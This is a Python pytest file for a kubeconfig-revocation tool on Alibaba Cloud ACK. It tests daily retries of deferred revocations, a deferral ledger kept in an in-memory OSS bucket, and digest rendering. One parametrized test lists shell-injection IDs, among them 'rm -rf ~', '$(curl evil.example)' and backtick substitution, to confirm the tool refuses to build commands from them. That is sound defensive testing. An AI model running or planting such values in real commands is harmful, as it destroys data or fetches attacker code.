"""Locks deferred by ACK (``Force=false`` refused) are retried daily and, if they cannot land,
listed as needing a decision.

The event path and the daily summary revoke a lock alike (the same rules, the same ``Force``);
the summary tries a deferred lock again every day; once ACK's 7-day window passes without use,
the revocation lands; with the cluster's audit log off (or the kubeconfig still in use) it never
does, and once it has been refused for more than ``KCGUARD_DECISION_AFTER_DAYS`` days it is
listed first in the digest, with the fix. The ages come from the deferral ledger in the report
bucket (here the real OSS SDK against an in-memory OSS on loopback).
"""

from __future__ import annotations

import functools
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from http.server import BaseHTTPRequestHandler
from types import SimpleNamespace
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from kubeconfig_guard.credentials import DEMO_ACCESS_KEY_ID, DEMO_ACCESS_KEY_SECRET
from kubeconfig_guard.fake import FakeAck
from kubeconfig_guard.handlers import handle_event, handle_summary
from kubeconfig_guard.inert import DIALECTS
from kubeconfig_guard.results import Action, ActionStatus, ClusterIssue, ClusterStatus
from kubeconfig_guard.summary import pipeline, storage
from kubeconfig_guard.summary.deferrals import (
    Ledger,
    LedgerEntry,
    hand_revocation,
    needs_decision,
)
from kubeconfig_guard.summary.markdown import render_markdown
from kubeconfig_guard.summary.pipeline import SummaryResult
from support.events import lock_user
from support.receivers import local_http_server
from support.worlds import ACCOUNT, cluster, iso, kc, world

CAROL = "200000000000000033"
DAY = 86_400.0
BUCKET = "kcguard-reports"
LEDGER_KEY = "kubeconfig-guard/deferrals.json"
# What Function Compute's context gives the summary: the role's credentials (here the fake's demo
# pair, which the fake ACK accepts and the in-memory OSS does not check) and the account.
CONTEXT = SimpleNamespace(
    credentials=SimpleNamespace(
        access_key_id=DEMO_ACCESS_KEY_ID, access_key_secret=DEMO_ACCESS_KEY_SECRET, security_token=None
    ),
    account_id=ACCOUNT,
)


# --- an OSS bucket in memory, behind a real HTTP server ---------------------------------------


@dataclass
class MemoryOss:
    url: str = ""
    objects: dict[str, bytes] = field(default_factory=dict)
    requests: list[tuple[str, str]] = field(default_factory=list)
    refuse_get: int | None = None  # answer every GET with this status (AccessDenied)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def ledger(self) -> dict[str, Any]:
        doc: dict[str, Any] = json.loads(self.objects[f"{BUCKET}/{LEDGER_KEY}"])
        return doc


def _error(code: str, message: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>{code}</Code><Message>{message}</Message>'
        "<RequestId>65A1B2C3D4E5F60718293A4B</RequestId></Error>"
    ).encode()


def _handler(oss: MemoryOss) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _answer(self, status: int, body: bytes, content_type: str = "application/xml") -> None:
            self.send_response(status)
            self.send_header("x-oss-request-id", "65A1B2C3D4E5F60718293A4B")
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            if status == 200:
                self.send_header("ETag", '"5B3C1A2E053D763E1B002CC607C5A0FE"')
            self.end_headers()
            self.wfile.write(body)

        def _key(self) -> str:
            return unquote(urlsplit(self.path).path).lstrip("/")

        def do_PUT(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            with oss.lock:
                oss.requests.append(("PUT", self._key()))
                oss.objects[self._key()] = body
            self._answer(200, b"")

        def do_GET(self) -> None:
            with oss.lock:
                oss.requests.append(("GET", self._key()))
                body = oss.objects.get(self._key())
            if oss.refuse_get:
                self._answer(
                    oss.refuse_get, _error("AccessDenied", "You have no right to access this object.")
                )
            elif body is None:
                self._answer(404, _error("NoSuchKey", "The specified key does not exist."))
            else:
                self._answer(200, body, "application/json")

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture
def memory_oss(monkeypatch: pytest.MonkeyPatch, demo_env: None) -> Iterator[MemoryOss]:
    """The summary's report bucket is this in-memory OSS (only the endpoint is changed)."""
    pytest.importorskip("alibabacloud_oss_v2", reason="the OSS SDK (extra 'oss') is not installed")
    oss = MemoryOss()
    with local_http_server(_handler(oss)) as url:
        oss.url = url
        monkeypatch.setattr(pipeline, "open_bucket", functools.partial(storage.open_bucket, endpoint=url))
        yield oss


# --- the event path and the summary agree on what a lock revokes --------------------------------


def lock_world() -> Any:
    """Carol, locked (InActive on ACK), on clusters where Force=false is accepted or refused."""
    return world(
        {
            "cn-hangzhou": [
                # unused for months: ACK accepts Force=false
                cluster(
                    "quiet", kc(CAROL, "carol", account_state="InActive", last_access="2026-09-01T00:00:00Z")
                ),
                # used an hour before the lock: refused until the 7-day window has passed
                cluster(
                    "busy", kc(CAROL, "carol", account_state="InActive", last_access="2026-11-25T08:00:00Z")
                ),
                # the cluster's audit log is off: Force=false is refused whatever the use
                cluster("blind", kc(CAROL, "carol", account_state="InActive"), audit_log=False),
                # still used every day after the lock
                cluster(
                    "used", kc(CAROL, "carol", account_state="InActive", last_access="2026-11-25T08:30:00Z")
                ),
                # ACK says not revokable: nobody calls Clean
                cluster("kept", kc(CAROL, "carol", account_state="InActive", revokable=False)),
                cluster("other", kc("200000000000000044", "dave", account_state="Active")),
            ]
        }
    )


def carol_cleans(backend: FakeAck) -> set[tuple[str, bool, str]]:
    return {(c.cluster_id, c.force, c.outcome) for c in backend.clean_calls if c.uid == CAROL}


@pytest.mark.parametrize("force_on_lock", [False, True])
def test_the_event_path_and_the_summary_revoke_a_lock_alike(make_harness: Any, force_on_lock: bool) -> None:
    by_event, by_summary = make_harness(lock_world()), make_harness(lock_world())
    settings = {"force_on_lock": force_on_lock, "regions": ["cn-hangzhou"]}
    result = handle_event(lock_user("carol"), None, runtime=by_event.runtime(**settings))
    summary = handle_summary(None, None, runtime=by_summary.runtime(**settings), now=by_summary.backend.now())
    assert carol_cleans(by_event.backend) == carol_cleans(by_summary.backend)
    if force_on_lock:
        assert carol_cleans(by_summary.backend) == {
            (c, True, "revoked") for c in ("quiet", "busy", "blind", "used")
        }
    else:
        assert carol_cleans(by_summary.backend) == {
            ("quiet", False, "revoked"),
            ("busy", False, "ErrorKubeconfigInUse"),  # the fake's own codes; only the outcome matters
            ("blind", False, "ErrorAuditLogUnavailable"),
            ("used", False, "ErrorKubeconfigInUse"),
        }
    event_statuses = {(a.cluster_id, a.status.value) for a in result.actions if a.uid == CAROL}
    assert summary.report is not None and summary.report.reconciliation is not None
    summary_statuses = {
        (a.cluster_id, a.status.value) for a in summary.report.reconciliation.actions if a.uid == CAROL
    }
    # The one difference: the event reports the not-revokable kubeconfig it matched (skipped);
    # the summary never counts it as an orphan. Neither asks ACK to revoke it.
    assert event_statuses - summary_statuses == {("kept", "skipped")}
    assert summary_statuses <= event_statuses


# --- eight days and more: retried daily, landed, or listed as needing a decision ---------------


def run_days(h: Any, days: int, **settings: Any) -> list[SummaryResult]:
    """The lock event (day 0, 09:00), then the daily summary at 10:00 on days 0..``days``.

    Carol keeps using her kubeconfig on cluster ``used`` every day. Returns each day's result.
    """
    rt = h.runtime(regions=["cn-hangzhou"], **settings)
    event = handle_event(lock_user("carol"), None, runtime=rt)
    assert {(a.cluster_id, a.status.value) for a in event.actions} == {
        ("quiet", "revoked"),
        ("busy", "deferred"),
        ("blind", "deferred"),
        ("used", "deferred"),
        ("kept", "skipped"),
    }
    assert all(
        "retried by the daily summary" in a.reason for a in event.actions if a.status.value == "deferred"
    )
    h.backend.advance(3600)
    results: list[SummaryResult] = []
    for _ in range(days + 1):
        h.backend.update_kubeconfigs("used", CAROL, last_access=iso(h.backend.now() - timedelta(hours=2)))
        start = len(h.backend.clean_calls)
        results.append(handle_summary(None, CONTEXT, runtime=rt, now=h.backend.now()))
        # Every day the summary asks again, with the lock's Force=false, for what is still there.
        assert {(c.cluster_id, c.force) for c in h.backend.clean_calls[start:]} <= {
            ("busy", False),
            ("blind", False),
            ("used", False),
        }
        h.backend.advance(DAY)
    return results


def decisions(result: SummaryResult) -> list[tuple[str, int | None]]:
    assert result.report is not None and result.report.needs_decision is not None
    return [(i.cluster_id, i.days) for i in result.report.needs_decision.items]


def test_a_deferred_lock_is_retried_daily_and_lands_or_needs_a_decision(
    make_harness: Any, memory_oss: MemoryOss
) -> None:
    h = make_harness(lock_world())
    results = run_days(h, 9, report_bucket=BUCKET)
    revoked = {r.cluster_id: r for r in h.backend.revocations if r.uid == CAROL}
    # The 7-day window passed without use on day 7 (10:00 > 08:00 + 7 days): Force=false landed.
    assert revoked["busy"].time == "2026-12-02T10:00:00Z" and not revoked["busy"].force
    assert set(revoked) == {"quiet", "busy"}  # audit log off, or still in use: never lands
    for day, result in enumerate(results):
        assert result.outcome.value == "ok", (day, result.reason)
        rec = result.report.reconciliation if result.report else None
        assert rec is not None
        refused = {(a.cluster_id, a.force) for a in rec.actions if a.status is ActionStatus.DEFERRED}
        assert refused == ({("blind", False), ("used", False)} | ({("busy", False)} if day < 7 else set()))
        # Refused on every run since day 0: for more than 8 days from day 9 on.
        assert decisions(result) == ([] if day <= 8 else [("blind", day), ("used", day)]), day
    day9 = results[9]
    assert day9.report is not None and day9.report.needs_decision is not None
    section = day9.report.needs_decision
    assert section.ages_tracked and section.deferred == 2 and section.total == 2 and not section.note
    blind = section.items[0]
    assert (blind.account_name, blind.region, blind.since, blind.days) == (
        "carol",
        "cn-hangzhou",
        date(2026, 11, 25),
        9,
    )
    assert blind.command == f"aliyun cs DELETE /cluster/blind/user/{CAROL}/permissions --Force true"
    assert "used after the lock, or ACK cannot read the cluster's audit log" in blind.why
    assert "set KCGUARD_FORCE_ON_LOCK=true" in blind.fix and blind.command in blind.fix
    # The digest's first section, the HTML page, the result's reason, the JSON report.
    digest = day9.markdown
    assert digest.index("### Needs a decision (2)") < digest.index("### Reconciliation")
    assert f"`aliyun cs DELETE /cluster/blind/user/{CAROL}/permissions --Force true`" in digest
    assert "since 2026-11-25 (9 days)" in digest
    assert 'id="decisions"' in day9.html and "2 revocations need a decision" in day9.html
    assert "2 revocations need a decision" in day9.reason
    assert json.loads(day9.report_json)["needs_decision"]["items"][0]["since"] == "2026-11-25"
    # The ledger in the bucket: the first refusal of each, busy gone since it landed.
    ledger = memory_oss.ledger()
    assert {(e["cluster_id"], e["since"], e["last"]) for e in ledger["entries"]} == {
        ("blind", "2026-11-25", "2026-12-04"),
        ("used", "2026-11-25", "2026-12-04"),
    }
    assert f"{LEDGER_KEY}" in {k.removeprefix(f"{BUCKET}/") for _, k in memory_oss.requests}
    assert day9.stored[-1] == LEDGER_KEY and "kubeconfig-guard/2026-12-04/report.json" in day9.stored


def test_force_on_lock_is_the_fix(make_harness: Any, memory_oss: MemoryOss) -> None:
    h = make_harness(lock_world())
    run_days(h, 9, report_bucket=BUCKET)
    rt = h.runtime(regions=["cn-hangzhou"], report_bucket=BUCKET, force_on_lock=True)
    fixed = handle_summary(None, CONTEXT, runtime=rt, now=h.backend.now())
    assert {(r.cluster_id, r.force) for r in h.backend.revocations if r.uid == CAROL} >= {
        ("blind", True),
        ("used", True),
    }
    assert decisions(fixed) == [] and memory_oss.ledger()["entries"] == []


def test_without_a_bucket_the_ages_are_not_tracked_and_the_digest_says_so(inproc_harness: Any) -> None:
    h = inproc_harness(lock_world())
    results = run_days(h, 9)
    for result in results:
        assert result.report is not None and result.report.needs_decision is not None
        section = result.report.needs_decision
        assert not section.ages_tracked and section.total == 0 and section.deferred >= 2
        assert "KCGUARD_REPORT_BUCKET is not set" in section.note
        assert result.markdown.startswith("## ") and "### Needs a decision (0)" in result.markdown
        assert "revocations were refused today; deferral ages are not tracked" in result.markdown


def test_an_unreadable_ledger_is_reported_and_not_overwritten(
    make_harness: Any, memory_oss: MemoryOss
) -> None:
    h = make_harness(lock_world())
    memory_oss.objects[f"{BUCKET}/{LEDGER_KEY}"] = b'{"keep": "me"}'
    memory_oss.refuse_get = 403
    [day0] = run_days(h, 0, report_bucket=BUCKET)
    assert day0.report is not None and day0.report.needs_decision is not None
    section = day0.report.needs_decision
    assert not section.ages_tracked and "HTTP 403 AccessDenied" in section.note
    assert f"oss:GetObject on oss://{BUCKET}/{LEDGER_KEY}" in section.note
    assert memory_oss.objects[f"{BUCKET}/{LEDGER_KEY}"] == b'{"keep": "me"}'
    assert day0.stored == [
        "kubeconfig-guard/2026-11-25/report.json",
        "kubeconfig-guard/2026-11-25/report.html",
    ]
    assert day0.storage_error is None and day0.outcome.value == "ok"


# --- the ledger's rules (pure) ----------------------------------------------------------------

TODAY = date(2026, 12, 4)


def action(
    cluster_id: str, uid: str, status: ActionStatus, region: str = "cn-hangzhou", state: str = "InActive"
) -> Action:
    return Action(
        region=region,
        cluster_id=cluster_id,
        cluster_name=f"name-{cluster_id}",
        uid=uid,
        account_name=f"user-{uid}",
        account_type="RamUser",
        account_state=state,
        status=status,
        reason="test",
    )


def entry(cluster_id: str, uid: str, since: date, region: str = "cn-hangzhou") -> LedgerEntry:
    return LedgerEntry(region=region, cluster_id=cluster_id, uid=uid, since=since, last=since)


def test_ledger_settles_what_this_run_knows_and_keeps_the_rest() -> None:
    old = TODAY - timedelta(days=5)
    ledger = Ledger(
        True,
        {
            (e.cluster_id, e.uid): e
            for e in (
                entry("c1", "refused-again", old),
                entry("c1", "revoked-now", old),
                entry("c1", "failed-now", old),
                entry("c2", "cluster-not-scanned", old),
                entry("gone", "cluster-deleted", old),
                entry("s1", "other-region", old, region="ap-southeast-1"),
            )
        },
    )
    ledger.settle(
        [
            action("c1", "refused-again", ActionStatus.DEFERRED),
            action("c1", "new-refusal", ActionStatus.DEFERRED),
            action("c1", "revoked-now", ActionStatus.REVOKED),
            action("c1", "failed-now", ActionStatus.FAILED),
        ],
        today=TODAY,
        regions=["cn-hangzhou"],
        scanned=["c1"],
        issues=[ClusterIssue(region="cn-hangzhou", cluster_id="c2", status=ClusterStatus.FAILED, reason="x")],
    )
    assert ledger.changed
    assert {k: (e.since, e.last) for k, e in ledger.entries.items()} == {
        ("c1", "refused-again"): (old, TODAY),
        ("c1", "new-refusal"): (TODAY, TODAY),
        ("c1", "failed-now"): (old, old),  # a transient failure says nothing
        ("c2", "cluster-not-scanned"): (old, old),
        ("s1", "other-region"): (old, old),  # not looked at in this run
    }
    # A region whose listing failed keeps its entries; round trip through the bucket's bytes.
    kept = Ledger.parse(ledger.dump(datetime_at(TODAY)))
    kept.settle(
        [],
        today=TODAY,
        regions=["ap-southeast-1"],
        scanned=[],
        issues=[
            ClusterIssue(region="ap-southeast-1", cluster_id="*", status=ClusterStatus.FAILED, reason="x")
        ],
    )
    assert set(kept.entries) == set(ledger.entries) and not kept.changed


def datetime_at(day: date) -> Any:
    from datetime import datetime, timezone

    return datetime(day.year, day.month, day.day, 10, tzinfo=timezone.utc)


def test_ledger_documents_that_are_missing_broken_or_unknown() -> None:
    assert Ledger.parse(None).tracked and not Ledger.parse(None).entries
    broken = Ledger.parse(b"{not json")
    assert broken.tracked and broken.changed and "starts afresh" in broken.note
    future = Ledger.parse(b'{"schema_version": 2, "updated_at": "x", "entries": []}')
    assert future.tracked and "schema version 2" in future.note
    assert not Ledger.untracked("why").tracked


def test_listed_after_more_than_the_configured_days_most_overdue_first() -> None:
    ledger = Ledger(
        True,
        {
            ("c1", "u8"): entry("c1", "u8", TODAY - timedelta(days=8)),
            ("c1", "u9"): entry("c1", "u9", TODAY - timedelta(days=9)),
            ("c2", "u30"): entry("c2", "u30", TODAY - timedelta(days=30)),
        },
    )
    refused = [action(c, u, ActionStatus.DEFERRED) for c, u in (("c1", "u8"), ("c1", "u9"), ("c2", "u30"))]
    section = needs_decision(ledger, refused, today=TODAY, after_days=8, locked_not_retried=0, limit=1)
    assert (section.total, section.truncated, section.deferred) == (2, True, 3)
    assert [(i.uid, i.days) for i in section.items] == [("u30", 30)]
    assert [
        i.uid
        for i in needs_decision(
            ledger, refused, today=TODAY, after_days=3, locked_not_retried=0, limit=9
        ).items
    ] == ["u30", "u9", "u8"]
    # Only what ACK refused in this run is listed: a ledger entry alone is not.
    assert needs_decision(ledger, [], today=TODAY, after_days=1, locked_not_retried=0, limit=9).total == 0


def test_a_deleted_accounts_deferral_names_its_own_setting() -> None:
    ledger = Ledger(True, {("c1", "u1"): entry("c1", "u1", TODAY - timedelta(days=20))})
    deleted = action("c1", "u1", ActionStatus.DEFERRED, state="Deleted")
    [item] = needs_decision(ledger, [deleted], today=TODAY, after_days=8, locked_not_retried=0, limit=9).items
    assert item.fix.startswith("set KCGUARD_FORCE_ON_DELETE=true")


@pytest.mark.parametrize(
    ("cluster_id", "uid"),
    [
        ("c1; rm -rf ~", "2001"),
        ("c1", "2001 --Force false"),
        ("$(curl evil.example)", "2001"),
        ("c1", "`id`"),
        ("-c1", "2001"),
        ("c1", ""),
        ("c1\nrm", "2001"),
    ],
)
def test_no_command_is_built_from_ids_a_shell_would_read_as_more(cluster_id: str, uid: str) -> None:
    assert hand_revocation(cluster_id, uid) is None
    ledger = Ledger(True, {(cluster_id, uid): entry(cluster_id, uid, TODAY - timedelta(days=9))})
    [item] = needs_decision(
        ledger,
        [action(cluster_id, uid, ActionStatus.DEFERRED)],
        today=TODAY,
        after_days=8,
        locked_not_retried=0,
        limit=9,
    ).items
    assert item.command is None and "/cluster/<cluster-id>/user/<uid>/permissions" in item.fix


def test_hand_revocation_for_plain_ids() -> None:
    assert (
        hand_revocation("c5b5e80b0b64a4bf6939d2d8fbbc5abcd", "276543218765432")
        == "aliyun cs DELETE /cluster/c5b5e80b0b64a4bf6939d2d8fbbc5abcd/user/276543218765432/permissions --Force true"
    )


def test_every_dialect_renders_the_section_first(make_harness: Any) -> None:
    h = make_harness(lock_world())
    [day0] = run_days(h, 0)
    assert day0.report is not None
    for dialect in DIALECTS:
        text = render_markdown(day0.report, dialect=dialect)
        assert text.index("Needs a decision") < text.index("Reconciliation"), dialect.name
